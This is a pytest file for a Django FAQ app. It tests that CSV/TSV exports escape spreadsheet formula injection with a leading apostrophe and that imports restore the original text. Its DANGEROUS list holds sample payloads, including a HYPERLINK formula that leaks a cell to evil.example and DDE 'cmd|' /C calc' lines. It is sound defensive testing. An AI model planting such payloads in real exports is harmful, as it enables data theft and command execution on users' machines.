"""Spreadsheet formula injection in the FAQ export: formula-like texts are written as text and import back.

A cell that starts with = + - @ (also after whitespace, also full-width ＝ ＋ － ＠) or with a tab or carriage
return would be run by Excel as a formula; the admin download, the admin action and `export_faq` write it with a
leading apostrophe, and the import removes exactly that apostrophe again.
"""

import csv
import io
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import translation

from faq.exporting import faq_export_bytes, faq_export_rows
from faq.importing import ImportOptions, import_faq_data
from faq.models import Department, Faq
from faq.spreadsheet import needs_prefix, neutralise, restore
from tests.factories import CategoryFactory, FaqFactory

pytestmark = pytest.mark.django_db

# Every way a cell can start a formula, each with the text after it.
DANGEROUS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"詳しくはこちら")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000＋1+1",
    "＝1+1",
    "＋cmd|' /C calc'!A0",
    "－2+3",
    "＠SUM(1+1)",
]
# Texts a real FAQ starts with that must come back from an export unchanged.
REAL_TEXTS = [
    "-5℃以下の日は水道管の凍結に注意してください。",
    "- 持ち物：印鑑、本人確認書類",
    "＋αの手続きが必要な場合があります。",
    "＝（イコール）記号は入力できません。",
    "@town_b の公式アカウントでもお知らせします。",
    "'=1+1 と入力すると文字として扱われます。",
    "''-5 は二つのアポストロフィで始まります。",
    "'普通の引用",
    "-5",
    "+81 3 0000 0000",
]
TEXT_COLUMNS = ("question", "answer", "alternate_questions", "question_en", "answer_en", "alternate_questions_en")


def cells(data: bytes, fmt: str = "csv") -> list[dict[str, str]]:
    text = data.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter="," if fmt == "csv" else "\t"))


@pytest.fixture
def hostile_faqs(kankyo: Department) -> list[Faq]:
    return [
        FaqFactory.create(
            external_id=f"F-{number:02d}",
            question=f"{text} 質問{number}",
            answer=f"{text} 回答{number}",
            alternate_questions=[f"{text} 言い換え{number}", "普通の言い換え"],
            question_en=f"{text} question {number}",
            answer_en=f"{text} answer {number}",
            alternate_questions_en=[f"{text} wording {number}", "a plain wording"],
            department=kankyo,
        )
        for number, text in enumerate(DANGEROUS)
    ]


def assert_neutralised(rows: list[dict[str, str]]) -> None:
    by_id = {row["external_id"]: row for row in rows}
    assert sorted(by_id) == [f"F-{number:02d}" for number in range(len(DANGEROUS))]
    for number, text in enumerate(DANGEROUS):
        row = by_id[f"F-{number:02d}"]
        assert row["question"] == f"'{text} 質問{number}"
        assert row["answer"] == f"'{text} 回答{number}"
        assert row["alternate_questions"] == f"'{text} 言い換え{number}|普通の言い換え"
        assert row["question_en"] == f"'{text} question {number}"
        assert row["answer_en"] == f"'{text} answer {number}"
        assert row["alternate_questions_en"] == f"'{text} wording {number}|a plain wording"
    for row in rows:
        for column in TEXT_COLUMNS:
            assert row[column][0] == "'"
            assert row[column][1:].lstrip()[:1] in "=+-@＝＋－＠", row[column]


# --- the rule --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", DANGEROUS)
def test_neutralise_prefixes_every_formula_start(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("-5", "-5"),
        ("+12", "+12"),
        ("-2.5", "-2.5"),
        ("-5℃", "'-5℃"),
        ("- 持ち物", "'- 持ち物"),
        ("'=1+1", "''=1+1"),
        ("''-x", "'''-x"),
        ("'-5", "'-5"),
        ("'普通", "'普通"),
        ("普通の質問 =1+1", "普通の質問 =1+1"),
        ("", ""),
        ("-", "-"),
        ("－", "－"),
        ("'-", "'-"),
    ],
)
def test_neutralise_leaves_numbers_and_plain_text_and_escapes_apostrophes(text: str, written: str) -> None:
    assert neutralise(text) == written
    assert restore(written) == text
    assert needs_prefix(text) == (written != text)


def test_neutralise_leaves_values_that_are_not_text() -> None:
    assert [neutralise(value) for value in (-5, 2.5, None)] == [-5, 2.5, None]


# --- the three ways staff export -------------------------------------------------------------------------------------


def test_admin_download_writes_formula_texts_with_an_apostrophe(hostile_faqs: list[Faq], staff_client: Client) -> None:
    response = staff_client.get(reverse("admin:faq_faq_export"))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert_neutralised(cells(response.content))


def test_admin_action_writes_formula_texts_with_an_apostrophe(hostile_faqs: list[Faq], staff_client: Client) -> None:
    response = staff_client.post(
        reverse("admin:faq_faq_changelist"),
        {
            "action": "export_selected_csv",
            "_selected_action": [str(faq.pk) for faq in hostile_faqs],
            "index": "0",
            "select_across": "0",
        },
    )

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="faqs-')
    assert_neutralised(cells(response.content))


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_export_command_writes_formula_texts_with_an_apostrophe(
    hostile_faqs: list[Faq], tmp_path: Path, fmt: str
) -> None:
    target = tmp_path / f"faqs.{fmt}"

    with translation.override("en"):
        call_command("export_faq", str(target), stderr=StringIO())

    assert_neutralised(cells(target.read_bytes(), fmt))


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_exports_carry_the_texts_as_they_are(hostile_faqs: list[Faq], fmt: str) -> None:
    data = faq_export_bytes(Faq.objects.all(), fmt=fmt).decode("utf-8")

    assert "'=HYPERLINK" not in data
    assert "=HYPERLINK" in data


# --- export, then import ---------------------------------------------------------------------------------------------


@pytest.fixture
def real_faqs(kankyo: Department) -> list[Faq]:
    category = CategoryFactory.create(name="-くらし")
    return [
        FaqFactory.create(
            external_id=f"R-{number:02d}",
            question=f"{text}（質問）" if number % 2 else text,
            answer=text,
            alternate_questions=[text, "普通の言い換え"],
            question_en=f"{text} (question)",
            answer_en=text,
            alternate_questions_en=[text, "a plain wording"],
            department=kankyo,
            category=category,
        )
        for number, text in enumerate(REAL_TEXTS)
    ]


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_export_then_import_gives_the_original_texts(real_faqs: list[Faq], fmt: str) -> None:
    before = faq_export_rows(Faq.objects.select_related("department", "category").order_by("id"))
    data = faq_export_bytes(Faq.objects.all(), fmt=fmt)
    Faq.objects.all().delete()

    report = import_faq_data(data=data, fmt=fmt, options=ImportOptions())

    assert (report.created, report.errors) == (len(REAL_TEXTS), [])
    after = faq_export_rows(Faq.objects.select_related("department", "category").order_by("id"))
    assert after == before
    assert [faq.answer for faq in Faq.objects.order_by("id")] == REAL_TEXTS
    assert [faq.answer_en for faq in Faq.objects.order_by("id")] == REAL_TEXTS
    assert Faq.objects.get(external_id="R-00").question == "-5℃以下の日は水道管の凍結に注意してください。"
    assert Faq.objects.get(external_id="R-01").alternate_questions == ["- 持ち物：印鑑、本人確認書類", "普通の言い換え"]
    assert {faq.category.name for faq in Faq.objects.select_related("category") if faq.category} == {"-くらし"}


def test_admin_download_imports_back_over_the_same_faqs_unchanged(real_faqs: list[Faq], staff_client: Client) -> None:
    data = staff_client.get(reverse("admin:faq_faq_export")).content
    written = {row["external_id"]: row["answer"] for row in cells(data)}
    assert written["R-00"] == "'-5℃以下の日は水道管の凍結に注意してください。"
    assert written["R-05"] == "''=1+1 と入力すると文字として扱われます。"
    assert written["R-08"] == "-5"
    assert {row["external_id"]: row["answer_en"] for row in cells(data)}["R-00"] == written["R-00"]
    history_before = Faq.history.count()

    report = import_faq_data(data=data, fmt="csv", options=ImportOptions())

    assert (report.created, report.updated, report.unchanged, report.errors) == (0, 0, len(REAL_TEXTS), [])
    assert Faq.history.count() == history_before


def test_json_import_keeps_a_leading_apostrophe(kankyo: Department) -> None:
    data = '[{"question": "\'=1+1 とは", "answer": "\'-5℃"}]'.encode()

    report = import_faq_data(data=data, fmt="json", options=ImportOptions())

    assert report.errors == []
    faq = Faq.objects.get()
    assert (faq.question, faq.answer) == ("'=1+1 とは", "'-5℃")
